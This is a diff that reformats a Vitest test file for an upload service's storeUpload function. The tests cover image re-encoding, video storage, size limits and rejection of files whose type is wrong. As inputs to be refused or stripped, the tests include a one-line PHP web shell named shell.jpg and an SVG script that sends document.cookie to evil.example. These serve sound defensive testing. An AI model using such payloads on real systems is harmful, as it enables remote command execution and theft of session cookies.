@@ -8,9 +8,27 @@ import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { contentKey, type FileStorage } from '../../lib/storage/file-storage';
 import { createLocalDiskStorage } from '../../lib/storage/local-disk-storage';
 import { MAX_BYTES, MAX_SVG_BYTES } from '../../../contract/media-rules';
-import { cleanFilename, storeUpload, uploadDepsFromConfig, type StoredUpload, type UploadDeps, type UploadInput } from './service';
+import {
+  cleanFilename,
+  storeUpload,
+  uploadDepsFromConfig,
+  type StoredUpload,
+  type UploadDeps,
+  type UploadInput,
+} from './service';
 import { UploadRefusedError } from './upload-refused';
-import { animatedGif, ebml, FILMED_AT, mp4, pdf, phoneJpeg, photo, pngBomb, simpleSvg, webm } from './upload-test-files';
+import {
+  animatedGif,
+  ebml,
+  FILMED_AT,
+  mp4,
+  pdf,
+  phoneJpeg,
+  photo,
+  pngBomb,
+  simpleSvg,
+  webm,
+} from './upload-test-files';
 
 let dataDir: string;
 let uploadsDir: string;
@@ -75,9 +93,22 @@ function expectContentAddressed(upload: StoredUpload) {
 describe('storeUpload: what is accepted', () => {
   it('re-encodes a phone photo to WebP copies and describes them for the media library', async () => {
     const jpeg = await phoneJpeg(2000, 1500);
-    const upload = await storeUpload(deps, { kind: 'image', filename: 'C:\\Users\\staff\\IMG_20261102.jpg', source: jpeg });
+    const upload = await storeUpload(deps, {
+      kind: 'image',
+      filename: 'C:\\Users\\staff\\IMG_20261102.jpg',
+      source: jpeg,
+    });
 
-    expect(upload).toMatchObject({ kind: 'image', format: 'jpeg', filename: 'IMG_20261102.jpg', sha256: sha256(jpeg), bytes: jpeg.length, width: 2000, height: 1500, warnings: [] });
+    expect(upload).toMatchObject({
+      kind: 'image',
+      format: 'jpeg',
+      filename: 'IMG_20261102.jpg',
+      sha256: sha256(jpeg),
+      bytes: jpeg.length,
+      width: 2000,
+      height: 1500,
+      warnings: [],
+    });
     expect(upload.variants.map(({ width, height, contentType }) => ({ width, height, contentType }))).toEqual([
       { width: 1280, height: 960, contentType: 'image/webp' },
       { width: 640, height: 480, contentType: 'image/webp' },
@@ -94,7 +125,11 @@ describe('storeUpload: what is accepted', () => {
   });
 
   it.each(['png', 'webp', 'gif'] as const)('accepts a %s photo as WebP copies', async (format) => {
-    const upload = await storeUpload(deps, { kind: 'image', filename: `photo.${format}`, source: await photo(500, 300, format) });
+    const upload = await storeUpload(deps, {
+      kind: 'image',
+      filename: `photo.${format}`,
+      source: await photo(500, 300, format),
+    });
     expect(upload.format).toBe(format);
     expect(upload.variants.map((variant) => [variant.width, variant.contentType])).toEqual([
       [500, 'image/webp'],
@@ -104,7 +139,11 @@ describe('storeUpload: what is accepted', () => {
   });
 
   it('keeps an animated GIF animated', async () => {
-    const upload = await storeUpload(deps, { kind: 'image', filename: 'how-upi-works.gif', source: await animatedGif(300, 200) });
+    const upload = await storeUpload(deps, {
+      kind: 'image',
+      filename: 'how-upi-works.gif',
+      source: await animatedGif(300, 200),
+    });
     const stored = fs.readFileSync(path.join(uploadsDir, upload.variants[0]!.key));
     expect((await sharp(stored, { animated: true }).metadata()).pages).toBe(3);
   });
@@ -131,9 +170,15 @@ describe('storeUpload: what is accepted', () => {
     const upload = await storeUpload(deps, {
       kind: 'image',
       filename: 'map.svg',
-      source: Buffer.from(simpleSvg('<image href="https://tracker.example/p.png" width="5" height="5"/><rect width="5" height="5" fill="red"/>')),
+      source: Buffer.from(
+        simpleSvg(
+          '<image href="https://tracker.example/p.png" width="5" height="5"/><rect width="5" height="5" fill="red"/>',
+        ),
+      ),
     });
-    expect(upload.warnings).toEqual(['Removed a picture inside the drawing (<image>): an SVG image here shows only its own shapes, text and colours.']);
+    expect(upload.warnings).toEqual([
+      'Removed a picture inside the drawing (<image>): an SVG image here shows only its own shapes, text and colours.',
+    ]);
     const stored = fs.readFileSync(path.join(uploadsDir, upload.variants[0]!.key), 'utf8');
     expect(stored).not.toContain('tracker');
     expect(stored).toContain('fill="red"');
@@ -150,16 +195,28 @@ describe('storeUpload: what is accepted', () => {
 
   it('stores a WebM video from a stream as uploaded, through a scratch file that is then removed', async () => {
     const video = ebml('webm');
-    const upload = await storeUpload(deps, { kind: 'video', filename: 'film.webm', source: Readable.from([video.subarray(0, 100), video.subarray(100)]) });
+    const upload = await storeUpload(deps, {
+      kind: 'video',
+      filename: 'film.webm',
+      source: Readable.from([video.subarray(0, 100), video.subarray(100)]),
+    });
     expect(upload).toMatchObject({ kind: 'video', format: 'webm', sha256: sha256(video), bytes: video.length });
-    expect(upload.variants[0]).toMatchObject({ contentType: 'video/webm', bytes: video.length, key: contentKey(sha256(video), 'webm') });
+    expect(upload.variants[0]).toMatchObject({
+      contentType: 'video/webm',
+      bytes: video.length,
+      key: contentKey(sha256(video), 'webm'),
+    });
     expect(fs.readFileSync(path.join(uploadsDir, upload.variants[0]!.key)).equals(video)).toBe(true);
     expect(fs.readdirSync(deps.scratchDir)).toEqual([]);
   });
 
   it('stores an MP4 video without the place it was filmed, named by what was stored', async () => {
     const video = mp4();
-    const upload = await storeUpload(deps, { kind: 'video', filename: 'film.mp4', source: Readable.from([video.subarray(0, 100), video.subarray(100)]) });
+    const upload = await storeUpload(deps, {
+      kind: 'video',
+      filename: 'film.mp4',
+      source: Readable.from([video.subarray(0, 100), video.subarray(100)]),
+    });
     expect(upload).toMatchObject({ kind: 'video', format: 'mp4', sha256: sha256(video), bytes: video.length });
     expect(upload.variants[0]).toMatchObject({ contentType: 'video/mp4', bytes: video.length });
     const stored = fs.readFileSync(path.join(uploadsDir, upload.variants[0]!.key));
@@ -170,7 +227,11 @@ describe('storeUpload: what is accepted', () => {
   });
 
   it('reads how long a video plays from its header, and stores one whose header does not say', async () => {
-    const film = await storeUpload(deps, { kind: 'video', filename: 'film.mp4', source: mp4(undefined, undefined, 2048, 95_000) });
+    const film = await storeUpload(deps, {
+      kind: 'video',
+      filename: 'film.mp4',
+      source: mp4(undefined, undefined, 2048, 95_000),
+    });
     expect(film.durationMs).toBe(95_000);
     const recording = await storeUpload(deps, { kind: 'video', filename: 'talk.webm', source: webm(8_250) });
     expect(recording).toMatchObject({ format: 'webm', durationMs: 8_250 });
@@ -210,12 +271,22 @@ describe('storeUpload: named by content', () => {
       return true;
     };
     const repeat = await storeUpload(deps, { kind: 'image', filename: 'again.jpg', source: jpeg, isStored });
-    expect(repeat).toMatchObject({ kind: 'image', format: 'jpeg', sha256: sha256(jpeg), bytes: jpeg.length, repeat: true, variants: [] });
+    expect(repeat).toMatchObject({
+      kind: 'image',
+      format: 'jpeg',
+      sha256: sha256(jpeg),
+      bytes: jpeg.length,
+      repeat: true,
+      variants: [],
+    });
     expect(asked).toEqual([sha256(jpeg)]);
     expect(storedFiles()).toEqual([]);
 
     const document = await pdf();
-    expect(await storeUpload(deps, { kind: 'document', filename: 'a.pdf', source: document, isStored })).toMatchObject({ repeat: true, variants: [] });
+    expect(await storeUpload(deps, { kind: 'document', filename: 'a.pdf', source: document, isStored })).toMatchObject({
+      repeat: true,
+      variants: [],
+    });
     expect(storedFiles()).toEqual([]);
 
     // The kind is still checked: a stored photo uploaded as a document is refused, not found.
@@ -241,7 +312,8 @@ describe('storeUpload: named by content', () => {
 });
 
 describe('storeUpload: what is refused, and why', () => {
-  const ACCEPTED_IMAGES = "Accepted images: JPEG, PNG, WebP, GIF or SVG (the type is read from the file's content, not its name).";
+  const ACCEPTED_IMAGES =
+    "Accepted images: JPEG, PNG, WebP, GIF or SVG (the type is read from the file's content, not its name).";
 
   it('refuses an empty file', async () => {
     const error = await refused({ kind: 'image', filename: 'photo.jpg', source: Buffer.alloc(0) });
@@ -251,10 +323,30 @@ describe('storeUpload: what is refused, and why', () => {
   it('refuses files over the limit of their kind', async () => {
     const jpegStart = Buffer.from([0xff, 0xd8, 0xff, 0xe0]);
     const cases: [UploadInput, string][] = [
-      [{ kind: 'image', filename: 'big.jpg', source: Buffer.concat([jpegStart, Buffer.alloc(11 * 1024 * 1024)]) }, 'Images can be at most 10 MB; this file is 11.1 MB.'],
-      [{ kind: 'image', filename: 'big.svg', source: Buffer.from(simpleSvg(`<desc>${'x'.repeat(MAX_SVG_BYTES)}</desc>`)) }, 'SVG images can be at most 1 MB; this file is 1.1 MB.'],
-      [{ kind: 'document', filename: 'big.pdf', source: Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(MAX_BYTES.document)]) }, 'Documents can be at most 20 MB; this file is 20.1 MB.'],
-      [{ kind: 'video', filename: 'big.mp4', source: Buffer.allocUnsafe(MAX_BYTES.video + 1) }, 'Videos can be at most 200 MB; this file is 200.1 MB.'],
+      [
+        { kind: 'image', filename: 'big.jpg', source: Buffer.concat([jpegStart, Buffer.alloc(11 * 1024 * 1024)]) },
+        'Images can be at most 10 MB; this file is 11.1 MB.',
+      ],
+      [
+        {
+          kind: 'image',
+          filename: 'big.svg',
+          source: Buffer.from(simpleSvg(`<desc>${'x'.repeat(MAX_SVG_BYTES)}</desc>`)),
+        },
+        'SVG images can be at most 1 MB; this file is 1.1 MB.',
+      ],
+      [
+        {
+          kind: 'document',
+          filename: 'big.pdf',
+          source: Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(MAX_BYTES.document)]),
+        },
+        'Documents can be at most 20 MB; this file is 20.1 MB.',
+      ],
+      [
+        { kind: 'video', filename: 'big.mp4', source: Buffer.allocUnsafe(MAX_BYTES.video + 1) },
+        'Videos can be at most 200 MB; this file is 200.1 MB.',
+      ],
     ];
     for (const [input, message] of cases) {
       const error = await refused(input);
@@ -278,27 +370,67 @@ describe('storeUpload: what is refused, and why', () => {
   });
 
   it.each([
-    ['a PHP script named .jpg', 'image', 'shell.jpg', Buffer.from('<?php system($_GET["c"]); ?>'), `This file is not an image of an accepted type. ${ACCEPTED_IMAGES}`],
-    ['an HTML page named .jpg', 'image', 'photo.jpg', Buffer.from('<!DOCTYPE html><html><script>alert(1)</script></html>'), `This file is not an image of an accepted type. ${ACCEPTED_IMAGES}`],
-    ['a video given as an image', 'image', 'poster.png', mp4(), `This file is an MP4 video, not an image. ${ACCEPTED_IMAGES}`],
-    ['a PDF given as a video', 'video', 'film.mp4', Buffer.from('%PDF-1.4\n%%EOF'), "This file is a PDF document, not a video. Accepted videos: MP4 or WebM (the type is read from the file's content, not its name)."],
-    ['a QuickTime film', 'video', 'film.mov', mp4('qt  ', ['qt  ']), "This file is not a video of an accepted type. Accepted videos: MP4 or WebM (the type is read from the file's content, not its name)."],
+    [
+      'a PHP script named .jpg',
+      'image',
+      'shell.jpg',
+      Buffer.from('<?php system($_GET["c"]); ?>'),
+      `This file is not an image of an accepted type. ${ACCEPTED_IMAGES}`,
+    ],
+    [
+      'an HTML page named .jpg',
+      'image',
+      'photo.jpg',
+      Buffer.from('<!DOCTYPE html><html><script>alert(1)</script></html>'),
+      `This file is not an image of an accepted type. ${ACCEPTED_IMAGES}`,
+    ],
+    [
+      'a video given as an image',
+      'image',
+      'poster.png',
+      mp4(),
+      `This file is an MP4 video, not an image. ${ACCEPTED_IMAGES}`,
+    ],
+    [
+      'a PDF given as a video',
+      'video',
+      'film.mp4',
+      Buffer.from('%PDF-1.4\n%%EOF'),
+      "This file is a PDF document, not a video. Accepted videos: MP4 or WebM (the type is read from the file's content, not its name).",
+    ],
+    [
+      'a QuickTime film',
+      'video',
+      'film.mov',
+      mp4('qt  ', ['qt  ']),
+      "This file is not a video of an accepted type. Accepted videos: MP4 or WebM (the type is read from the file's content, not its name).",
+    ],
   ] as const)('refuses %s', async (_name, kind, filename, source, message) => {
     const error = await refused({ kind, filename, source });
     expect([error.code, error.statusCode, error.message]).toEqual(['uploadNotAccepted', 415, message]);
   });
 
   it('refuses a PNG declared as a PDF document', async () => {
-    const error = await refused({ kind: 'document', filename: 'annual-report.pdf', source: await photo(64, 64, 'png') });
+    const error = await refused({
+      kind: 'document',
+      filename: 'annual-report.pdf',
+      source: await photo(64, 64, 'png'),
+    });
     expect([error.code, error.statusCode]).toEqual(['uploadNotAccepted', 415]);
-    expect(error.message).toBe("This file is a PNG image, not a PDF document. Accepted documents: PDF (the type is read from the file's content, not its name).");
+    expect(error.message).toBe(
+      "This file is a PNG image, not a PDF document. Accepted documents: PDF (the type is read from the file's content, not its name).",
+    );
   });
 
   it('refuses an SVG with script, naming what it found', async () => {
     const error = await refused({
       kind: 'image',
       filename: 'badge.svg',
-      source: Buffer.from(simpleSvg('<script>fetch("https://evil.example/?" + document.cookie)</script><rect onclick="alert(1)" width="1" height="1"/>')),
+      source: Buffer.from(
+        simpleSvg(
+          '<script>fetch("https://evil.example/?" + document.cookie)</script><rect onclick="alert(1)" width="1" height="1"/>',
+        ),
+      ),
     });
     expect([error.code, error.statusCode]).toEqual(['uploadActiveContent', 422]);
     expect(error.message).toBe(
@@ -307,10 +439,22 @@ describe('storeUpload: what is refused, and why', () => {
   });
 
   it('refuses an SVG that is not UTF-8 text, or not a whole drawing', async () => {
-    const latin1 = await refused({ kind: 'image', filename: 'a.svg', source: Buffer.concat([Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><text>caf'), Buffer.from([0xe9]), Buffer.from('</text></svg>')]) });
+    const latin1 = await refused({
+      kind: 'image',
+      filename: 'a.svg',
+      source: Buffer.concat([
+        Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><text>caf'),
+        Buffer.from([0xe9]),
+        Buffer.from('</text></svg>'),
+      ]),
+    });
     expect(latin1.code).toBe('uploadDamaged');
     expect(latin1.message).toContain('it is not UTF-8 text');
-    const broken = await refused({ kind: 'image', filename: 'b.svg', source: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="-5" height="x"><rect') });
+    const broken = await refused({
+      kind: 'image',
+      filename: 'b.svg',
+      source: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="-5" height="x"><rect'),
+    });
     expect(broken.code).toBe('uploadDamaged');
   });
 
@@ -319,8 +463,14 @@ describe('storeUpload: what is refused, and why', () => {
     const cutPhoto = await refused({ kind: 'image', filename: 'cut.jpg', source: jpeg.subarray(0, jpeg.length / 2) });
     expect([cutPhoto.code, cutPhoto.statusCode]).toEqual(['uploadDamaged', 422]);
     const document = await pdf();
-    const cutPdf = await refused({ kind: 'document', filename: 'cut.pdf', source: document.subarray(0, document.length - 200) });
-    expect(cutPdf.message).toBe('The PDF document is incomplete (it does not end as a PDF does). Save it again and upload the new file.');
+    const cutPdf = await refused({
+      kind: 'document',
+      filename: 'cut.pdf',
+      source: document.subarray(0, document.length - 200),
+    });
+    expect(cutPdf.message).toBe(
+      'The PDF document is incomplete (it does not end as a PDF does). Save it again and upload the new file.',
+    );
   });
 
   it('refuses a pixel bomb', async () => {
